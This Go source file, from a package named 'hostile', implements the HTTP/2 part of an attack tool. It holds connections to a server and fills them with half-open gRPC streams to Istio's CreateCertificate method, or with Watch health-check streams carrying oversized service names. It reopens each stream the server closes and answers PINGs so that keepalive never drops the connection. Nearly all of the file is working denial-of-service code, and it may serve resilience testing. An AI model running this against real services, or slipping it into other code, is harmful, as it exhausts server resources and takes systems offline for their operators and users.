package hostile

import (
	"bytes"
	"context"
	"crypto/tls"
	"encoding/binary"
	"fmt"
	"io"
	"net"
	"sync"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// The methods the HTTP/2 attacks call.
const (
	createCertificate = "/istio.v1.auth.IstioCertificateService/CreateCertificate"
	healthWatch       = "/grpc.health.v1.Health/Watch"
)

// h2 is one HalfOpen or Watch connection: TLS, HTTP/2, and as many
// streams as the server lets in, each re-opened when the server ends it,
// until the server closes the connection or ctx ends.
func (a *Attacker) h2(ctx context.Context, k Kind, target string, from net.IP, c *conn) (bool, error) {
	raw, stop, err := dial(ctx, target, from)
	if err != nil {
		return false, err
	}
	defer stop()
	defer raw.Close()
	tc := tls.Client(raw, a.tls)
	if err := tc.HandshakeContext(ctx); err != nil {
		return false, err
	}
	s := newH2Session(tc, a.cfg.MaxStreams)
	if err := s.start(); err != nil {
		return false, err
	}
	go s.read()
	if !s.waitSettled() {
		return false, s.failure()
	}
	c.established()
	path := createCertificate
	if k == Watch {
		path = healthWatch
	}
	for {
		if !s.waitRoom() {
			break
		}
		if a.streams[k].Wait(ctx) != nil {
			break
		}
		id, ok := s.reserve(c)
		if !ok {
			break
		}
		if err := s.headers(id, path); err != nil {
			break
		}
		if k == Watch && s.data(id, a.watch) != nil {
			break
		}
	}
	// Hold what is open until the server closes the connection (after
	// its GOAWAY, too) or the attack ends.
	select {
	case <-s.done:
	case <-ctx.Done():
	}
	raw.Close()
	s.wait()
	return true, s.failure()
}

// h2Session is the client side of one HTTP/2 connection, spoken by hand.
type h2Session struct {
	c  net.Conn
	fr *http2.Framer

	wmu  sync.Mutex // writes
	enc  *hpack.Encoder
	hbuf bytes.Buffer

	mu         sync.Mutex
	cond       *sync.Cond
	settled    bool
	maxStreams int
	open       map[uint32]*conn
	next       uint32
	window     int64 // the connection's send window
	goaway     string
	err        error
	done       chan struct{}
}

func newH2Session(c net.Conn, maxStreams int) *h2Session {
	s := &h2Session{c: c, fr: http2.NewFramer(c, c), maxStreams: maxStreams, open: map[uint32]*conn{}, next: 1,
		window: 65535, done: make(chan struct{})}
	s.enc = hpack.NewEncoder(&s.hbuf)
	s.cond = sync.NewCond(&s.mu)
	return s
}

// start sends the client preface and SETTINGS.
func (s *h2Session) start() error {
	s.wmu.Lock()
	defer s.wmu.Unlock()
	if _, err := io.WriteString(s.c, http2.ClientPreface); err != nil {
		return err
	}
	return s.fr.WriteSettings()
}

// read handles the server's frames until the connection ends: SETTINGS
// (acknowledged), PING (answered, so that keepalive never closes the
// connection), WINDOW_UPDATE, the ends of streams, GOAWAY.
func (s *h2Session) read() {
	defer close(s.done)
	for {
		f, err := s.fr.ReadFrame()
		if err != nil {
			s.fail(err)
			return
		}
		switch f := f.(type) {
		case *http2.SettingsFrame:
			if !f.IsAck() {
				s.settings(f)
				s.write(func() error { return s.fr.WriteSettingsAck() })
			}
		case *http2.PingFrame:
			if !f.IsAck() {
				data := f.Data
				s.write(func() error { return s.fr.WritePing(true, data) })
			}
		case *http2.WindowUpdateFrame:
			if f.StreamID == 0 {
				s.update(func() { s.window += int64(f.Increment) })
			}
		case *http2.RSTStreamFrame:
			s.ended(f.StreamID)
		case *http2.HeadersFrame:
			if f.StreamEnded() {
				s.ended(f.StreamID)
			}
		case *http2.DataFrame:
			if n := len(f.Data()); n > 0 {
				s.write(func() error { return s.fr.WriteWindowUpdate(0, uint32(n)) })
			}
			if f.StreamEnded() {
				s.ended(f.StreamID)
			}
		case *http2.GoAwayFrame:
			msg := fmt.Sprintf("GOAWAY %v %q", f.ErrCode, f.DebugData())
			s.update(func() { s.goaway = msg })
		}
	}
}

func (s *h2Session) settings(f *http2.SettingsFrame) {
	s.update(func() {
		if v, ok := f.Value(http2.SettingMaxConcurrentStreams); ok {
			s.maxStreams = int(v)
		}
		s.settled = true
	})
}

// update changes the session's state under its lock and wakes its
// waiters.
func (s *h2Session) update(f func()) {
	s.mu.Lock()
	defer s.mu.Unlock()
	f()
	s.cond.Broadcast()
}

func (s *h2Session) write(f func() error) {
	s.wmu.Lock()
	defer s.wmu.Unlock()
	if err := f(); err != nil {
		s.fail(err)
	}
}

func (s *h2Session) fail(err error) {
	s.update(func() {
		if s.err == nil {
			s.err = err
		}
	})
}

// failure is why the connection ended: the server's GOAWAY if it sent
// one, or the error that ended it.
func (s *h2Session) failure() error {
	s.mu.Lock()
	defer s.mu.Unlock()
	if s.goaway != "" {
		return fmt.Errorf("%s (%v)", s.goaway, s.err)
	}
	return s.err
}

// ended: the server ended stream id.
func (s *h2Session) ended(id uint32) {
	s.update(func() {
		if c, ok := s.open[id]; ok {
			delete(s.open, id)
			c.streamClosed(true)
		}
	})
}

// waitSettled waits for the server's SETTINGS; false if the connection
// ended first.
func (s *h2Session) waitSettled() bool {
	s.mu.Lock()
	defer s.mu.Unlock()
	for !s.settled && s.err == nil {
		s.cond.Wait()
	}
	return s.err == nil
}

// waitRoom waits until the server would take another stream; false once
// the connection ends or the server has sent GOAWAY.
func (s *h2Session) waitRoom() bool {
	s.mu.Lock()
	defer s.mu.Unlock()
	for len(s.open) >= s.maxStreams && s.err == nil && s.goaway == "" {
		s.cond.Wait()
	}
	return s.err == nil && s.goaway == ""
}

// reserve takes the next stream id and counts the stream as open.
func (s *h2Session) reserve(c *conn) (uint32, bool) {
	s.mu.Lock()
	defer s.mu.Unlock()
	if s.err != nil || s.goaway != "" || s.next >= 1<<31-1 {
		return 0, false
	}
	id := s.next
	s.next += 2
	s.open[id] = c
	c.streamOpened()
	return id, true
}

// headers opens stream id for path, leaving it open for a message.
func (s *h2Session) headers(id uint32, path string) error {
	s.wmu.Lock()
	defer s.wmu.Unlock()
	s.hbuf.Reset()
	for _, f := range []hpack.HeaderField{{Name: ":method", Value: "POST"}, {Name: ":scheme", Value: "https"},
		{Name: ":authority", Value: DefaultServerName}, {Name: ":path", Value: path},
		{Name: "content-type", Value: "application/grpc"}, {Name: "te", Value: "trailers"}} {
		if err := s.enc.WriteField(f); err != nil {
			return err
		}
	}
	err := s.fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: s.hbuf.Bytes(), EndHeaders: true})
	if err != nil {
		s.fail(err)
	}
	return err
}

// data sends msg on stream id and ends the stream's side of the client,
// as a server-streaming call does, within the connection's send window.
func (s *h2Session) data(id uint32, msg []byte) error {
	for len(msg) > 0 {
		s.mu.Lock()
		for s.window <= 0 && s.err == nil {
			s.cond.Wait()
		}
		if s.err != nil {
			s.mu.Unlock()
			return s.err
		}
		n := int(min(int64(len(msg)), s.window, 16384))
		s.window -= int64(n)
		s.mu.Unlock()
		s.wmu.Lock()
		err := s.fr.WriteData(id, n == len(msg), msg[:n])
		s.wmu.Unlock()
		if err != nil {
			s.fail(err)
			return err
		}
		msg = msg[n:]
	}
	return nil
}

// wait waits for the reader to end and counts the streams left open as
// closed with the connection.
func (s *h2Session) wait() {
	<-s.done
	s.mu.Lock()
	defer s.mu.Unlock()
	for id, c := range s.open {
		delete(s.open, id)
		c.streamClosed(false)
	}
}

// watchMessage is a gRPC message of a HealthCheckRequest whose service
// name is n bytes long.
func watchMessage(n int) []byte {
	name := bytes.Repeat([]byte("x"), n)
	body := append([]byte{0x0a}, binary.AppendUvarint(nil, uint64(n))...) // field 1, length-delimited
	body = append(body, name...)
	msg := make([]byte, 5, 5+len(body))
	binary.BigEndian.PutUint32(msg[1:], uint32(len(body)))
	return append(msg, body...)
}
